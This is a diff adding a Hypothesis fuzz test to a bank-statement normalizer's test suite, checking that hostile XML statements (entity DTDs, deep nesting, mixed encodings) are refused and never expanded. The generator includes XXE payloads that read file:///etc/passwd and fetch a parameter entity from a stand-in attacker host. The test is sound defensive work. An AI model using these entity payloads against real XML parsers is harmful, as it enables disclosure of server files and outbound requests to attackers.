@@ -5,6 +5,7 @@ gets through must be the file's own plain decimal: no exponent read as a number 
 
 from __future__ import annotations
 
+import json
 import re
 from pathlib import Path
 from typing import Any
@@ -150,3 +151,70 @@ def test_a_bai2_detail_amount_is_read_only_as_ascii_minor_units_or_the_file_is_r
 
     property_()
     _report(record_property, "bank file BAI2 amounts", seen)
+
+
+# ---- hostile statement files (issue 18, D95): DTDs in any encoding, other encodings, deep nesting ---------------
+# A bank file arrives through S3 as bytes; the bank-file service decodes UTF-8 (else Latin-1) and the normalizer
+# parses the text. Whatever the bytes, the file is refused with a reason — never expanded, never a crash.
+
+ENTITY_MARK = "EXPANDED-BY-THE-PARSER"
+CODECS = ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be"]
+
+
+def _as_dropped(body: bytes) -> str:
+    """The text the bank-file service hands the normalizer (service/bank_files.py)."""
+    try:
+        return body.decode("utf-8-sig")
+    except UnicodeDecodeError:
+        return body.decode("latin-1")
+
+
+@st.composite
+def hostile_statements(draw: st.DrawFn) -> tuple[bytes, str]:
+    path = draw(st.sampled_from([p for p in SAMPLES if p.suffix == ".xml"]))
+    text = path.read_text(encoding="utf-8")
+    kind = draw(st.sampled_from(["dtd", "deep", "encoding"]))
+    if kind in ("dtd", "encoding") or draw(st.booleans()):
+        declared = draw(st.sampled_from(["UTF-8", "UTF-16", "UTF-32", "ISO-8859-1"]))
+        text = text.replace('encoding="UTF-8"', f'encoding="{declared}"', 1)
+    if kind == "dtd":
+        subset = draw(st.sampled_from([f'<!ENTITY e "{ENTITY_MARK}">', '<!ENTITY e SYSTEM "file:///etc/passwd">',
+                                       '<!ENTITY % p SYSTEM "http://attacker.invalid/p">%p;', ""]))
+        head, sep, rest = text.partition("?>")
+        text = head + sep + f"<!DOCTYPE Document [{subset}]>" + rest if sep else f"<!DOCTYPE Document [{subset}]>" + text
+        text = text.replace("<Id>", "<Id>&e;", 1) if "ENTITY e" in subset else text
+    elif kind == "deep":
+        depth = draw(st.integers(65, 20_000))
+        text = text.replace("<Ntry>", "<Ntry>" + "<x>" * depth + "</x>" * depth, 1)
+    return text.encode(draw(st.sampled_from(CODECS))), kind
+
+
+def test_hostile_statement_files_are_refused_with_a_reason_and_never_expanded(config, record_property):
+    outcomes: dict[str, int] = {}
+
+    @settings(max_examples=EXAMPLES, deadline=None, database=None, derandomize=True,
+              suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
+    @given(dropped=hostile_statements())
+    def property_(dropped: tuple[bytes, str]) -> None:
+        body, kind = dropped
+        text = _as_dropped(body)
+        context = NormalizeContext(config=config, source_id="bank", correlation_id="fuzz", archive_key="raw/fuzz")
+        try:
+            normalize_module("bank").normalize({"content": text}, context)
+        except NormalizationError as error:
+            assert ENTITY_MARK not in json.dumps(error.to_dict())
+            if error.reason == "malformed_statement":
+                outcomes[kind] = outcomes.get(kind, 0) + 1
+                return
+            read = error.reason   # read, then refused for its content (an account no entity owns)
+        else:
+            read = "normalized"
+        # only a statement that was never hostile in the first place can be read: UTF-8 bytes (with or without a
+        # BOM) of a declaration naming a single-byte encoding of the same ASCII text (no DOCTYPE, no deep nesting)
+        assert kind == "encoding", (kind, read, text[:200])
+        outcomes[f"read ({read})"] = outcomes.get(f"read ({read})", 0) + 1
+
+    property_()
+    record_property("fuzz_cases", f"bank files, hostile: {sum(outcomes.values())} cases, refused by kind / read "
+                                  f"{dict(sorted(outcomes.items()))}")
+    assert outcomes.get("dtd") and outcomes.get("deep") and outcomes.get("encoding")
